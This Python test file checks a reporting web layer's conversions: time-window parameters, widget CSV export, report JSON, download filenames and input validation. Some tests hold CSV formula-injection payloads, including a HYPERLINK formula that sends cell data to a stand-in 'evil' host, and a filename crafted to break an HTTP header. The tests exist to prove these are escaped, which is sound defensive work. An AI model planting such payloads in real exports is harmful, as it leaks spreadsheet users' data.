"""The web layer's pure translations: query strings to requests, widgets to CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from campaignreports.v1 import query_service_pb2
from campaignreports.web import convert


def test_live_is_the_default_window() -> None:
    assert convert.window({}).WhichOneof("kind") == "live"
    assert convert.window({}).live.granularity == query_service_pb2.GRANULARITY_MINUTE
    fifteen = convert.window({"window": "live", "granularity": "15min"})
    assert fifteen.live.granularity == query_service_pb2.GRANULARITY_FIFTEEN_MINUTES


def test_a_range_takes_dates_zone_and_granularity() -> None:
    window = convert.window(
        {
            "window": "range",
            "start": "2026-11-01",
            "end": "2026-11-08",
            "timezone": "Asia/Kolkata",
            "granularity": "week",
        }
    )
    assert window.range.start.ToDatetime(UTC) == datetime(2026, 11, 1, tzinfo=UTC)
    assert window.range.timezone == "Asia/Kolkata"
    assert window.range.granularity == query_service_pb2.GRANULARITY_WEEK


@pytest.mark.parametrize(
    ("parameters", "name"),
    [
        ({"window": "range", "start": "yesterday", "end": "2026-11-08"}, "start"),
        (
            {"window": "range", "start": "2026-11-01", "end": "2026-11-08", "granularity": "year"},
            "granularity",
        ),
        ({"window": "live", "granularity": "day"}, "granularity"),
    ],
)
def test_bad_parameters_name_the_parameter(parameters: dict[str, str], name: str) -> None:
    with pytest.raises(convert.ParameterError) as error:
        convert.window(parameters)
    assert error.value.parameter == name


def test_widgets_become_one_csv() -> None:
    kpi = query_service_pb2.Widget(
        id="email_statistics",
        metrics=[
            query_service_pb2.Metric(id="sent", value=10),
            query_service_pb2.Metric(id="delivered", value=9, rate=0.9),
            # an amount: its exact text, not the nearest double
            query_service_pb2.Metric(
                id="revenue", value=0.30000000000000004, unit="currency", amount="0.3", currency="EUR"
            ),
        ],
    )
    rows = query_service_pb2.Widget(
        id="email_top_links",
        rows=[
            query_service_pb2.Row(key="https://a", metrics=[query_service_pb2.Metric(id="share", value=0.25)])
        ],
    )
    series = query_service_pb2.Widget(id="email_summary", series=[query_service_pb2.Series(metric_id="sent")])
    point = series.series[0].points.add(value=3)
    point.at.FromDatetime(datetime(2026, 11, 23, 10, 0, tzinfo=UTC))
    per_link = query_service_pb2.Widget(
        id="email_clicks_over_time",
        series=[query_service_pb2.Series(metric_id="clicks", key="=HYPERLINK(1)")],
    )
    point = per_link.series[0].points.add(value=2)
    point.at.FromDatetime(datetime(2026, 11, 23, 10, 0, tzinfo=UTC))
    lines = list(csv.reader(io.StringIO(convert.widgets_csv([kpi, rows, series, per_link]))))
    assert lines == [
        ["widget", "row", "metric", "value", "rate", "series"],
        ["email_statistics", "", "sent", "10", "", ""],
        ["email_statistics", "", "delivered", "9", "0.9", ""],
        ["email_statistics", "", "revenue", "0.3 EUR", "", ""],
        ["email_top_links", "https://a", "share", "0.25", "", ""],
        ["email_summary", "2026-11-23T10:00:00Z", "sent", "3", "", ""],
        ["email_clicks_over_time", "2026-11-23T10:00:00Z", "clicks", "2", "", "'=HYPERLINK(1)"],
    ]


def test_placements_are_parsed_or_refused() -> None:
    parsed = convert.placements(
        {
            "placements": [
                {"widgetId": "email_statistics", "x": 0, "y": 0, "width": 6, "height": 3, "view": "table"}
            ]
        }
    )
    assert parsed[0].widget_id == "email_statistics" and parsed[0].width == 6
    with pytest.raises(convert.ParameterError):
        convert.placements({"placements": [{"widgetId": "x", "width": "wide"}]})


def test_reports_travel_with_compact_series() -> None:
    report = query_service_pb2.Report(tab="email")
    report.as_of.FromDatetime(datetime(2026, 11, 23, 10, 0, 30, tzinfo=UTC))
    widget = report.widgets.add(id="email_summary", kind=query_service_pb2.WIDGET_KIND_SERIES)
    widget.metrics.add(id="delivered", value=9, rate=0.9, unit="count", rate_base_id="sent")
    series = widget.series.add(metric_id="sent", label="Sent")
    for minute, value in enumerate((0.0, 2.0)):
        point = series.points.add(value=value)
        point.at.seconds = 1_795_000_000 + 60 * minute
    shown = convert.report_json(report)
    assert shown["asOf"] == "2026-11-23T10:00:30Z"
    (widget_json,) = shown["widgets"]
    assert widget_json["kind"] == "WIDGET_KIND_SERIES"
    assert widget_json["metrics"] == [
        {"id": "delivered", "label": "", "value": 9.0, "unit": "count", "rate": 0.9, "rateBaseId": "sent"}
    ]
    assert widget_json["series"] == [
        {
            "metricId": "sent",
            "key": "",
            "label": "Sent",
            "at": [1_795_000_000, 1_795_000_060],
            "values": [0.0, 2.0],
        }
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("unknown_user", "unknown_user"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_event_text_never_becomes_a_formula(text: str, cell: str) -> None:
    assert convert.text_cell(text) == cell


def test_a_download_name_cannot_break_its_header() -> None:
    assert convert.attachment('a"b\r\nc;d.csv') == (
        "attachment; filename=\"a_b_c_d.csv\"; filename*=UTF-8''a%22b%0D%0Ac%3Bd.csv"
    )
    assert (
        convert.attachment("été.csv")
        == "attachment; filename=\"_t_.csv\"; filename*=UTF-8''%C3%A9t%C3%A9.csv"
    )


@pytest.mark.parametrize("raw", [b"\xff", b"{", b"[]", b'"text"', b"[" * 10_000])
def test_a_body_must_be_a_json_object(raw: bytes) -> None:
    with pytest.raises(convert.ParameterError) as refused:
        convert.json_body(raw)
    assert refused.value.parameter == "body"


@pytest.mark.parametrize("value", ["abc", None, 1e400, 2**70, -1, True, 1.5])
def test_a_revision_is_a_whole_number_in_range(value: object) -> None:
    with pytest.raises(convert.ParameterError) as refused:
        convert.revision({"revision": value})
    assert refused.value.parameter == "revision"
    assert convert.revision({}) == 0 and convert.revision({"revision": 2**63 - 1}) == 2**63 - 1
